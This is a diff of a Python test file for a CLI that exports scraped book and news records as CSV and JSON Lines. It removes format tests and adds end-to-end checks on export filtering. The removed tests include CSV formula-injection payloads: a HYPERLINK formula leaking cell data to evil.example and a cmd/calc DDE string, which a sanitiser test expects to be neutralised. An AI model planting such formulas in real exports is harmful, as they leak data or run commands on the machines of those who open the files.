@@ -21,7 +21,7 @@ from pathlib import Path
 import pytest
 import requests
 
-from cli import formats, output, records
+from cli import output, records
 from cli.client import ServiceClient, ServiceError, Submission, Unreachable
 from cli.commands import summary_exit_code
 from cli.exits import ExitCode, UsageError
@@ -113,17 +113,6 @@ def test_a_terminal_is_not_read_and_no_urls_is_a_usage_error(tmp_path):
         gather_urls([], str(tmp_path / "missing.txt"), FakeStdin(""))
 
 
-# ---- CSV and JSON Lines ---------------------------------------------------------------------
-
-
-def test_flatten_lists_dicts_and_empties():
-    assert formats.flatten(["Ann", "Bob"]) == "Ann; Bob"
-    assert formats.flatten({"name": "Saga", "number": 2}) == '{"name": "Saga", "number": 2}'
-    assert formats.flatten([{"title": "A", "url": "u"}, "b"]) == '{"title": "A", "url": "u"}; b'
-    assert formats.flatten(None) == "" and formats.flatten([]) == ""
-    assert formats.flatten(True) == "true" and formats.flatten(4.5) == "4.5"
-
-
 BOOK_RECORD = {
     "url": book(1), "kind": "goodreads_book", "status": "done", "fetched_at": "2026-01-01T00:00:00+00:00",
     "parser_version": "1", "error": None,
@@ -134,43 +123,6 @@ FAILED_RECORD = {
     "url": book(404), "kind": "goodreads_book", "status": "failed", "fetched_at": "2026-01-01T00:00:00+00:00",
     "data": None, "error": {"code": "http_status", "message": "404 Not Found"},
 }
-
-
-def test_csv_has_base_columns_then_data_fields_and_renames_clashes():
-    out = io.StringIO()
-    formats.write_csv([BOOK_RECORD, FAILED_RECORD], out)
-    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
-    assert list(rows[0])[:5] == ["url", "kind", "status", "fetched_at", "error"]
-    assert rows[0]["authors"] == "A; B" and rows[0]["rating"] == "4.1"
-    assert json.loads(rows[0]["series"]) == {"name": "S", "number": 1}
-    assert rows[0]["data.url"] == book(1) and rows[0]["data.kind"] == "goodreads_book"
-    assert rows[1]["status"] == "failed" and rows[1]["error"] == "http_status: 404 Not Found"
-    assert rows[1]["title"] == ""
-
-
-FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-            "\t=1+1", "\r=1+1"]
-
-
-@pytest.mark.parametrize("formula", FORMULAS)
-def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(formula):
-    record = {**BOOK_RECORD, "data": {**BOOK_RECORD["data"], "title": formula, "authors": [formula, "B"],
-                                      "description": "fine = text", "ratings_count": -3, "rating": 4.5}}
-    out = io.StringIO()
-    formats.write_csv([record], out)
-    row = next(csv.DictReader(io.StringIO(out.getvalue())))
-    assert row["title"] == "'" + formula
-    assert row["authors"] == "'" + formula + "; B"
-    assert row["description"] == "fine = text"  # only a formula at the start of a cell runs
-    assert (row["ratings_count"], row["rating"]) == ("-3", "4.5")  # numbers stay numbers
-
-
-def test_jsonl_is_one_record_a_line_and_duplicates_are_dropped():
-    records = formats.unique_by_url([BOOK_RECORD, FAILED_RECORD, dict(BOOK_RECORD, status="later copy")])
-    out = io.StringIO()
-    formats.write_jsonl(records, out)
-    lines = [json.loads(line) for line in out.getvalue().splitlines()]
-    assert [line["url"] for line in lines] == [book(1), book(404)] and lines[0]["status"] == "done"
 
 
 # ---- the HTTP client, against a fake session ------------------------------------------------
@@ -762,6 +714,7 @@ def test_export_jsonl_and_csv(service, tmp_path):
     assert jsonl.returncode == 0, jsonl.stderr
     records = [json.loads(line) for line in jsonl.stdout.splitlines()]
     assert sorted(r["url"] for r in records) == sorted(urls)
+    assert [r["fetched_at"] for r in records] == sorted((r["fetched_at"] for r in records), reverse=True)
     # To stdout the format is JSON Lines unless --format says otherwise.
     as_csv = run(service.cli_env, "--quiet", "export", "--batch", batch_id, "--format", "csv")
     assert sorted(row["url"] for row in csv.DictReader(io.StringIO(as_csv.stdout))) == sorted(urls)
@@ -769,11 +722,29 @@ def test_export_jsonl_and_csv(service, tmp_path):
     every = run(service.cli_env, "--quiet", "export", "--output", str(csv_path))
     assert every.returncode == 0 and every.stdout == "" and every.stderr == ""
     rows = list(csv.DictReader(csv_path.open(newline="", encoding="utf-8")))
-    by_url = {row["url"]: row for row in rows}
-    assert len(by_url) == len(rows) and set(urls) <= set(by_url)
+    books = [row for row in rows if row["kind"] == "book"]  # a news front is a row per headline
+    by_url = {row["url"]: row for row in books}
+    assert len(by_url) == len(books) and set(urls) <= set(by_url)
     assert by_url[urls[0]]["title"] == BOOK_TITLE and by_url[urls[0]]["authors"] == "Imaginary Author"
     assert by_url[urls[2]]["status"] == "failed" and by_url[urls[2]]["error"].startswith("http_status")
     assert list(rows[0])[:4] == ["url", "kind", "status", "fetched_at"]
+    assert list(tmp_path.iterdir()) == [csv_path]  # renamed into place: no partial file left
+    books = run(service.cli_env, "--quiet", "export", "--batch", batch_id, "--format", "csv", "--kind", "book")
+    assert "headline_url" not in books.stdout.splitlines()[0] and books.stdout.count(BOOK_TITLE) == 2
+
+
+@pytest.mark.e2e
+def test_export_filters_by_kind_and_since_and_a_bad_since_is_a_usage_error(service, tmp_path):
+    assert run(service.cli_env, "submit", run_book(22), "--wait").returncode == 0
+    fetched = json_out(run(service.cli_env, "get", run_book(22), "--json"))["fetched_at"]
+    recent = run(service.cli_env, "export", "--since", fetched, "--kind", "book", "--format", "jsonl")
+    assert recent.returncode == 0 and run_book(22) in recent.stdout and "exported" in recent.stderr
+    news = [json.loads(line) for line in run(service.cli_env, "export", "--kind", "news").stdout.splitlines()]
+    assert all(record["kind"] == "news_headlines" for record in news)  # other tests' fronts, if any; no book
+    target = tmp_path / "out.jsonl"
+    refused = run(service.cli_env, "export", "--since", "yesterday", "--output", str(target))
+    assert refused.returncode == 2 and "since must be an ISO 8601 time" in refused.stderr
+    assert not target.exists() and list(tmp_path.iterdir()) == []  # no partial file either
 
 
 @pytest.mark.e2e
